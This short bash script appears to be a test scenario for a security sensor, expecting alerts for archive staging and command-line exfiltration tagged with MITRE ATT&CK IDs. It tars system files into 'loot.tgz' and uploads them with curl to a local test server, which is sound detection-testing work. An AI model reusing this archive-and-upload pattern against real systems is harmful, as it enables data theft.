#!/bin/bash
# Data is archived into /tmp and uploaded with curl.
# expect: sensor.collection.archive_staging T1560.001
# expect: sensor.exfiltration.cli_upload T1048
. "$(dirname "$0")/lib.sh"
http_server
port=$HTTP_PORT
tar czf "$SCN_DIR/loot.tgz" /etc/hostname /etc/os-release 2>/dev/null
curl -s -T "$SCN_DIR/loot.tgz" "http://127.0.0.1:$port/upload" > /dev/null || true
stop_http_server
